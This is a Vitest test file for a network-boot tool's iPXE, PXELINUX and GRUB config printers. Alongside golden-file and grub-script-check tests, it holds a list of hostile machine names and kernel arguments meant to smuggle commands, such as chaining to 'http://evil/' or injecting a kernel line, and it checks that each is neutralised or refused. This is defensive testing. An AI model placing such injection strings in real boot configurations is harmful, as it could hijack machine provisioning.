import { spawnSync } from "node:child_process";
import { describe, expect, test } from "vitest";
import type { BootDecision } from "../../src/boot/decision.js";
import type { Installer } from "../../src/install/plan-render.js";
import { FACTS_SCRIPT } from "../../src/boot/facts-script.js";
import { printGrubConfig } from "../../src/boot/grub-config.js";
import { printGrubEntry } from "../../src/boot/grub-entry.js";
import { printIpxeMessage, printListeningScript, printIpxeScript } from "../../src/boot/ipxe-script.js";
import { printPxelinuxConfig } from "../../src/boot/pxelinux-config.js";
import { printRegistrationScript } from "../../src/boot/registration-script.js";
import { DEFAULT_LOCAL_BOOT } from "../../src/boot/local-boot.js";
import { InvalidInput } from "../../src/errors.js";
import { parseMacAddress } from "../../src/machine/mac-address.js";
import { matchesGolden } from "../support/golden.js";

const MAC = parseMacAddress("00:26:2d:01:01:01");
const BASE = "http://10.0.0.1:9393";

const ipxe = (decision: BootDecision) => printIpxeScript(decision, MAC, BASE);
const pxelinux = (decision: BootDecision) => printPxelinuxConfig(decision, MAC, `${BASE}/`);
const grub = (decision: BootDecision) => printGrubConfig(decision, "10.0.0.1:9393");
const PRINTERS = { ipxe, pxelinux, grub };

const installer: Installer = {
  title: "Debian 12",
  kernel: "/images/debian-12/linux",
  initrds: ["/images/debian-12/initrd.gz", "/images/debian-12/firmware.cpio.gz"],
  arguments: "auto=true url=http://10.0.0.1:9393/install/preseed.cfg?token=kr_sample console=ttyS0,115200n8 ---",
};

const at = { place: "A07 U12", localBoot: DEFAULT_LOCAL_BOOT };

const install = (changes: Partial<Installer> = {}, name = "web-01"): BootDecision => ({
  action: "install",
  rule: "ARMED",
  name,
  ...at,
  installer: { ...installer, ...changes },
});

const DECISIONS: Record<string, BootDecision> = {
  register: { action: "register", rule: "UNKNOWN" },
  wait: { action: "wait", rule: "DISCOVERED", name: "MA6S000000", ...at },
  local: { action: "local", rule: "LOCKED", name: "web-01", ...at },
  menu: { action: "menu", rule: "NOT_ARMED", name: "web-01", ...at, state: "INSTALLED" },
  install: install(),
};

describe.each(Object.entries(PRINTERS))("%s", (language, print) => {
  test.each(Object.entries(DECISIONS))("prints the decision to %s as expected", (kind, decision) => {
    matchesGolden(`boot/${kind}.${language}`, print(decision));
  });
});

test("SNreg.ipxe and a message are printed as expected", () => {
  matchesGolden("boot/facts.ipxe", FACTS_SCRIPT);
  matchesGolden("boot/SNreg.ipxe", printRegistrationScript(BASE));
  matchesGolden("boot/listen.ipxe", printListeningScript("MA6S000000", MAC, BASE));
  matchesGolden("boot/message.ipxe", printIpxeMessage("no MAC address in the request; write /inventory/SERIAL/MAC"));
});

test("grub.cfg is printed as expected", () => {
  matchesGolden("boot/entry.grub", printGrubEntry("10.0.0.1:9393"));
});

test.each([
  ["entry", printGrubEntry("10.0.0.1:9393")],
  ...Object.entries(DECISIONS).map(([kind, each]) => [kind, grub(each)]),
])("GRUB's own parser takes its %s", (_, text) => {
  const check = (script = "") => spawnSync("grub-script-check", [], { input: script, encoding: "utf8" });
  expect(check(text)).toMatchObject({ status: 0, stderr: "" });
  expect(check(`${text}fi\n`).status).not.toBe(0);
});

test("the three print the same installer: kernel, initrds and arguments", () => {
  for (const print of Object.values(PRINTERS)) {
    const words = print(install()).replaceAll("'", "");
    for (const part of ["debian-12/linux", "debian-12/initrd.gz", "debian-12/firmware.cpio.gz"]) {
      expect(words).toContain(part);
    }
    expect(words).toContain(installer.arguments);
  }
});

test("none of them prints an installer for a decision that is not one", () => {
  for (const [kind, decision] of Object.entries(DECISIONS)) {
    if (kind === "install") continue;
    for (const print of Object.values(PRINTERS)) {
      expect(print(decision)).not.toMatch(/^\s*(kernel|linux|initrd|KERNEL|APPEND)\b/m);
    }
  }
});

// A machine's serial number or a host name, as a hostile SMBIOS may hold it.
const HOSTILE = [
  "a\nkernel http://evil/x",
  "a\r\nLABEL evil",
  "${mac}",
  "${net0/mac",
  "a || chain http://evil/",
  "a && exit",
  "a ; shell",
  "# a",
  "it's } linux /x",
  "' }; linux /evil",
  'a"b',
  "-n",
  "--default evil",
  "trailing\\",
  "\x1b[2J\x07",
  "\u2028\u202e日本",
  "",
  "x".repeat(5000),
];

describe.each(HOSTILE)("a machine named %j", (name) => {
  const decisions = Object.values(DECISIONS).map((each): BootDecision => ("name" in each ? { ...each, name } : each));

  test.each(Object.entries(PRINTERS))("leaves every line of %s what it was", (_, print) => {
    decisions.forEach((decision, i) => {
      const harmless = print(Object.values(DECISIONS)[i] as BootDecision);
      const shape = (text: string) => text.split("\n").map((line) => line.trimStart().split(" ")[0]);
      const printed = print(decision);
      expect(shape(printed)).toEqual(shape(harmless));
      expect(printed).toMatch(/^[\x20-\x7e\n]*$/);
      expect(Math.max(...printed.split("\n").map((line) => line.length))).toBeLessThan(600);
    });
  });

  test("brings no operator, no expansion and no joined line into iPXE, and no quote into GRUB", () => {
    decisions.forEach((decision, i) => {
      const harmless = ipxe(Object.values(DECISIONS)[i] as BootDecision);
      const count = (text: string) => text.match(/\$\{|\|\||&&|;|#|\\|'/g)?.length;
      expect(count(ipxe(decision))).toBe(count(harmless));
      expect(grub(decision).match(/'/g)?.length).toBe(
        grub(Object.values(DECISIONS)[i] as BootDecision).match(/'/g)?.length,
      );
    });
  });
});

describe("what an operator wrote", () => {
  test.each(["a\nb", "a\r", "a || b", "a && b", "a ; b", "|| b", "a #b", "#", "a\\", "a\x00b", "a\x7fb", "a\tb"])(
    "kernel arguments %j are refused by iPXE's printer",
    (text) => expect(() => ipxe(install({ arguments: text }))).toThrow(InvalidInput),
  );

  test.each(["a\nLABEL evil", "a\r", "a\x00"])("kernel arguments %j are refused by PXELINUX's printer", (text) =>
    expect(() => pxelinux(install({ arguments: text }))).toThrow(InvalidInput),
  );

  test.each(["it's", "a'\n}", "a\x00b"])("kernel arguments %j are refused by GRUB's printer", (text) =>
    expect(() => grub(install({ arguments: text }))).toThrow(InvalidInput),
  );

  test.each(["a;b", "a||b", "x=${net0/mac}", "a{b}", "$HOME", '"quoted"', "a&b", "back\\slash"])(
    "%j is one kernel argument, to all three as it stands",
    (word) => {
      expect(ipxe(install({ arguments: `first ${word} last` }))).toContain(` first ${word} last || goto failed\n`);
      expect(pxelinux(install({ arguments: `first ${word} last` }))).toContain(` first ${word} last\n`);
      expect(grub(install({ arguments: `first ${word} last` }))).toContain(` 'first' '${word}' 'last'\n`);
    },
  );

  test.each(["a\nb", "a || b", "a\\"])("the title %j is refused", (title) =>
    expect(() => ipxe(install({ title }))).toThrow(InvalidInput),
  );

  test.each(["/images/a b", "", "/images/x\nboot", "/images/"])(
    "the file %j is refused by iPXE and PXELINUX",
    (file) => {
      for (const print of file === "/images/" ? [ipxe] : [ipxe, pxelinux]) {
        expect(() => print(install({ initrds: [file] }))).toThrow(InvalidInput);
      }
    },
  );

  test.each(["https://mirror/linux", "tftp://mirror/linux", "linux", "http://"])("GRUB cannot fetch %s", (kernel) =>
    expect(() => grub(install({ kernel }))).toThrow(InvalidInput),
  );

  test("GRUB fetches from another server by its own device, with the query", () => {
    expect(grub(install({ kernel: "http://mirror:8080/a/linux?v=1" }))).toContain(
      "linux '(http,mirror:8080)/a/linux?v=1'",
    );
  });
});
